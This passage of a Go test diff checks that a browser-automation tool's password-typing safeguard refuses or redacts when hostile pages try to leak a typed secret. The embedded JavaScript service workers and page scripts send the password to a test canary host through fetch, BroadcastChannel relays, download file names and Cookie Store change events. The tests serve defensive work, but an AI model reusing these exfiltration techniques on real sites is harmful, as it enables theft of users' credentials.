+    const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob([v])); a.download = 'pw-' + v.replace(/[^A-Za-z0-9-]/g, '_') + '.txt';
+    document.body.append(a); a.click();
+  }, 100);
+});
+</script>`,
+	})
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, _ := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	time.Sleep(2 * time.Second)
+	later, _ := f.call(t, "e2e.snapshot", nil)
+	t.Logf("type_text:\n%s\nsnapshot:\n%s\nsaved: %q", out, later, dirNames(t, down))
+	for _, text := range []string{out, later} {
+		if strings.Contains(text, "Sup3r-S3cret") {
+			t.Errorf("a reply shows the value in the download's name:\n%s", text)
+		}
+	}
+	f.cs.Close()
+	recs, _ := pageDownloadRecords(t, f.evidence)
+	for _, e := range recs {
+		if strings.Contains(fmt.Sprint(e.Files, e.Args, e.Output), "Sup3r-S3cret") {
+			t.Errorf("record %d shows the value: %v %v %q", e.Seq, e.Files, e.Args, e.Output)
+		}
+	}
+}
+
+// TestH7SecretBesideAUsersWorkerOfTheSite: a service worker the user's
+// browsing started on the site is still running when the user's tab of
+// it has closed; it listens on a BroadcastChannel, which a session's page
+// of the site shares (user_context.js leaves BroadcastChannel), and sends
+// what it hears to the canary. type_text must be refused while such a
+// worker runs, naming it.
+func TestH7SecretBesideAUsersWorkerOfTheSite(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+new BroadcastChannel('pw').onmessage = m => fetch(%q + '?v=' + encodeURIComponent(m.data), {mode: 'no-cors'}).catch(() => {});
+// Kept running a while after its last page closed.
+self.addEventListener('message', e => e.waitUntil(new Promise(r => setTimeout(r, 60000))));`, f.canaryTo+"/bc"), `<script>navigator.serviceWorker.ready.then(r => r.active.postMessage('stay'))</script>`, `<title>form</title><input type=password id=pw aria-label=Password><script>
+const bc = new BroadcastChannel('pw');
+document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.target.value));
+</script>`)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text (refused %v):\n%s", refused, out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "a service worker of the user's on the field's site") {
+		t.Errorf("type_text was not refused naming the user's service worker of the site")
+	}
+	f.canaryHasSecret(t, "a user's worker of the site")
+}
+
+// TestH7SecretWakesTheUsersWorker: the user's service worker of the site
+// is stopped when the secret is typed, but subscribed to the site's
+// cookies (Cookie Store API): the field's page writes the value into a
+// cookie, which wakes the worker with the cookie's value, and the worker
+// sends it to the canary.
+func TestH7SecretWakesTheUsersWorker(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	spy, spyLog := serveLoggedOn(t, "127.0.0.5:0", nil)
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.registration.cookies.subscribe([{name: 'pw', url: self.registration.scope}]).catch(err => fetch(%[2]q + '?err=' + encodeURIComponent(String(err)), {mode: 'no-cors'}))));
+self.addEventListener('cookiechange', e => { for (const c of e.changed) e.waitUntil(fetch(%[1]q + '?v=' + encodeURIComponent(c.value), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/woken", spy+"/subscribe"), "",
+		`<title>form</title><input type=password id=pw aria-label=Password><script>
+document.getElementById('pw').addEventListener('input', e => { document.cookie = 'pw=' + encodeURIComponent(e.target.value) + '; path=/'; });
+</script>`)
+	// The user's browser stops its workers (as it does an idle one).
+	user := usersTab(t, endpoint, "about:blank")
+	if _, err := chromedp.Call(user, serviceworker.Enable, cdp.Empty{}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := chromedp.Call(user, serviceworker.StopAllWorkers, cdp.Empty{}); err != nil {
+		t.Fatal(err)
+	}
+	time.Sleep(500 * time.Millisecond)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text (refused %v):\n%s", refused, out)
+	if n := spyLog.count("/subscribe"); n != 0 {
+		t.Errorf("the worker could not subscribe to the site's cookies (%d): the test shows nothing", n)
+	}
+	f.canaryHasSecret(t, "the user's worker woken by the site's cookie")
+}
